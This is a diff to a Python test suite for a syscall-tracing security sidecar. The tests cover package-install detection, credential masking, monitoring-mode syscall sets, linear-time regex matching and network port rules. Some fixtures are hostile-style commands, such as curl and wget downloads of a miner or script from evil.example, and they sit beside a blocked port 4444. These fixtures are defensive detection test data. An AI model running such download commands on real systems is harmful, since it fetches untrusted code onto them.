@@ -11,10 +11,12 @@ from sidecar.events import (
     ACCESS_CREATE,
     ACCESS_READ,
     ACCESS_WRITE,
+    ALLOW,
     KIND_CHMOD,
     KIND_CHOWN,
     KIND_CONNECT,
     KIND_EXEC,
+    KIND_LISTEN,
     KIND_OPEN,
     KIND_OTHER,
     KIND_RENAME,
@@ -22,8 +24,9 @@ from sidecar.events import (
     KIND_UNLINK,
     SyscallEvent,
 )
-from sidecar.policy import Policy, load_policies, parse_policy_text, policies_dir, resolve_policy
+from sidecar.policy import load_policies, parse_policy_text, policies_dir, resolve_policy
 from sidecar.policy import merge as merge_docs
+from sidecar.policy_model import Policy
 
 HEADER = "apiVersion: security.qualys.com/v1\nkind: TracingPolicy\nmetadata:\n  name: t\n"
 
@@ -189,6 +192,7 @@ softwareInstallation:
     - {name: apt-get, commands: [install]}
     - {name: pip}
     - {name: pip3, severity: high}
+    - {name: apt}
     - {name: npm}
     - {name: yarn}
     - {name: go}
@@ -218,8 +222,30 @@ INSTALLS = [
     (("gem", "install", "rails"), "gem"),
     (("curl", "-sSLo", "/tmp/x", "https://evil.example/x"), "curl"),
     (("wget", "http://evil.example/miner"), "wget"),
+    # Each tool's grammar: global options that take values come before the subcommand
+    # (apt-get(8) -o/-c/-t, pip's General Options, npm --prefix, apk -X, dnf --setopt).
+    (("apt-get", "-o", "Dpkg::Options::=--force-confnew", "install", "x"), "apt-get"),
+    (("apt-get", "-c", "/tmp/apt.conf", "-t", "bookworm-backports", "install", "x"), "apt-get"),
+    (("apt", "-o", "APT::Get::Assume-Yes=1", "full-upgrade"), "apt"),
+    (("pip", "--proxy", "http://proxy:3128", "install", "x"), "pip"),
+    (("pip", "--cache-dir", "/tmp/c", "--log", "/tmp/l", "install", "x"), "pip"),
+    (("/usr/bin/pip3.11", "--proxy", "http://p:1", "install", "x"), "pip3"),
+    (("python3.11", "-I", "-m", "pip", "--proxy", "http://p:1", "install", "x"), "pip"),
+    (("python3", "-X", "dev", "-mpip", "install", "x"), "pip"),
+    (("npm", "--prefix", "/app", "i", "x"), "npm"),
+    (("npm", "isntall", "x"), "npm"),
+    (("npm", "ci"), "npm"),
+    (("yarn", "add", "x"), "yarn"),
+    (("yarn", "--cwd", "/app", "add", "x"), "yarn"),
+    (("apk", "-X", "http://dl-cdn.alpinelinux.org/alpine/edge/main", "add", "nmap"), "apk"),
+    (("apk", "--root", "/mnt", "add", "nmap"), "apk"),
 ]
 NOT_INSTALLS = [
+    ("apt-get", "-o", "APT::Get::Assume-Yes=1", "update"),
+    ("pip", "--proxy", "http://proxy:3128", "list"),
+    ("npm", "--prefix", "/app", "run", "install"),
+    ("apk", "-X", "http://x/add", "info"),
+    ("python3", "-c", "import pip; print('-m pip install')"),
     ("apt-get", "update"),
     ("pip", "list"),
     ("npm", "run", "build"),
@@ -237,7 +263,19 @@ def test_software_installation(argv: tuple[str, ...], manager: str) -> None:
     assert [e.package_manager for e in verdict.events] == [manager]
     event = verdict.events[0].as_dict()
     assert event["category"] == "software" and event["package_manager"] == manager
-    assert event["args"] == list(argv)
+    assert "args" not in event  # captureArgs is off unless the rule turns it on
+
+
+def test_software_rules_honour_capture_args_and_mask_credentials() -> None:
+    token = "ghp_" + "A1b2C3d4E5" * 4  # a GitHub token's shape (ghp_ + 36+ characters)
+    argv = ("curl", "-H", f"Authorization: Bearer {token}", "https://x.example/a.sh")
+    off = Engine(policy(SOFT)).evaluate(exec_ev(*argv)).events
+    assert len(off) == 1 and off[0].args is None and token not in repr(off[0].as_dict())
+    on = Engine(
+        policy("softwareInstallation:\n  packageManagers:\n    - {name: curl, captureArgs: true}\n")
+    ).evaluate(exec_ev(*argv))
+    assert on.events[0].args == ("curl", "-H", "Authorization: Bearer ***",
+                                 "https://x.example/a.sh")  # fmt: skip
 
 
 @pytest.mark.parametrize("argv", NOT_INSTALLS)
@@ -319,13 +357,23 @@ def resolve_overrides(p: Policy, whitelist: str) -> Policy:
 
 def test_requirements_of_the_bundled_modes() -> None:
     minimal = Engine(resolve_policy({"MONITORING_MODE": "minimal"})).requirements()
-    assert minimal.syscalls == {"execve", "execveat", "connect"}
+    # every way to name a destination; sends stop only with MSG_FASTOPEN (no UDP rule)
+    sends = {"sendto", "sendmsg", "sendmmsg"}
+    assert minimal.syscalls - {"io_uring_setup"} == {"execve", "execveat", "connect"} | sends
+    assert not minimal.sends_need_udp
     assert not minimal.process_only and not minimal.open_needs_read
     balanced = Engine(resolve_policy({"MONITORING_MODE": "balanced"})).requirements()
-    assert {"openat", "unlinkat", "fchmodat", "renameat2", "execve", "connect"} <= (
-        balanced.syscalls
-    )
+    every_write = {"open", "openat", "openat2", "creat", "truncate", "ftruncate", "link",
+                   "linkat", "symlink", "symlinkat", "rename", "renameat", "renameat2"}  # fmt: skip
+    assert every_write | {"unlinkat", "fchmodat", "fchmodat2", "execve"} <= balanced.syscalls
     assert not balanced.open_needs_read  # FIM on writes only: read-only opens never stop
+    assert balanced.recheck_writes  # and a write open is judged again by its fd at exit
+    # io_uring: refused by the filter when a rule blocks, an event otherwise
+    blocks = "block" in {
+        r.action for r in resolve_policy({"MONITORING_MODE": "balanced"}).fim.paths
+    }
+    assert ("io_uring_setup" in balanced.refused) == blocks
+    assert ("io_uring_setup" in balanced.syscalls) != blocks
     aggressive = Engine(load_policies([policies_dir() / "tracing-policy-schema.yaml"]))
     assert aggressive.requirements().open_needs_read
 
@@ -392,3 +440,45 @@ def test_unmatched_events_share_the_allow_verdict() -> None:
     engine = Engine(load_policies([policies_dir() / "tracing-policy-schema.yaml"]))
     quiet = open_ev("/usr/lib/python3/x.py", ACCESS_READ)
     assert engine.evaluate(quiet) is engine.evaluate(quiet)  # the shared ALLOW verdict
+
+
+def test_a_catastrophic_pattern_runs_in_linear_time() -> None:
+    """`(\\w+\\s?)+$` backtracks exponentially in Python's `re` on a word followed by a
+    non-word character (2^n paths for n characters): the issue measured an 18 s stall.
+    Patterns are RE2 (sidecar.patterns), so 100,000 characters are one linear scan; with a
+    backtracking engine this test would not finish."""
+    engine = Engine(policy(
+        "processExecution:\n  trackedExecutables:\n"
+        "    - {name: sh, argsPattern: '(\\w+\\s?)+$', action: block}\n"
+    ))  # fmt: skip
+    assert type(engine._processes[0].pattern).__module__.startswith("re2")
+    evil = exec_ev("sh", "-c", "a" * 100_000 + "!")
+    assert engine.evaluate(evil).events == ()  # no match: ends in a non-word character
+    assert engine.evaluate(exec_ev("sh", "-c", "echo hi")).block
+
+
+def test_per_process_network_rules_and_listen_ports() -> None:
+    engine = Engine(policy(
+        "networkMonitoring:\n  outboundConnections:\n    allowlist: [0.0.0.0/0]\n"
+        "    blockedPorts: [4444]\n"
+        "  processes:\n    - {name: curl, allowlist: [10.0.0.0/8], allowedPorts: [443],"
+        " action: block}\n"
+        "  inboundConnections: {allowedPorts: [8080], action: alert}\n"
+    ))  # fmt: skip
+
+    def connect(exe: str, ip: str, port: int) -> tuple[str, ...]:
+        call = ev(KIND_CONNECT, "connect", exe=exe, family="inet", ip=ip, port=port)
+        return tuple(e.rule for e in engine.evaluate(call).events)
+
+    assert connect("/usr/bin/curl", "10.1.2.3", 443) == ()  # its own rule allows it
+    assert connect("/usr/bin/curl", "10.1.2.3", 80) == ("network:process:curl",)
+    assert connect("/usr/bin/curl", "203.0.113.9", 443) == ("network:process:curl",)
+    assert engine.evaluate(ev(KIND_CONNECT, "connect", exe="/usr/bin/curl", family="inet",
+                              ip="203.0.113.9", port=443)).block  # fmt: skip
+    assert connect("/usr/bin/python3", "203.0.113.9", 443) == ()  # the section's allowlist
+    assert connect("/usr/bin/curl", "10.1.2.3", 4444) == ("network:blocked-port",)
+    listen = ev(KIND_LISTEN, "listen", family="inet", ip="0.0.0.0", port=4444)
+    assert [e.rule for e in engine.evaluate(listen).events] == ["network:listen-not-allowed"]
+    assert (
+        engine.evaluate(ev(KIND_LISTEN, "listen", family="inet", ip="0.0.0.0", port=8080)) == ALLOW
+    )
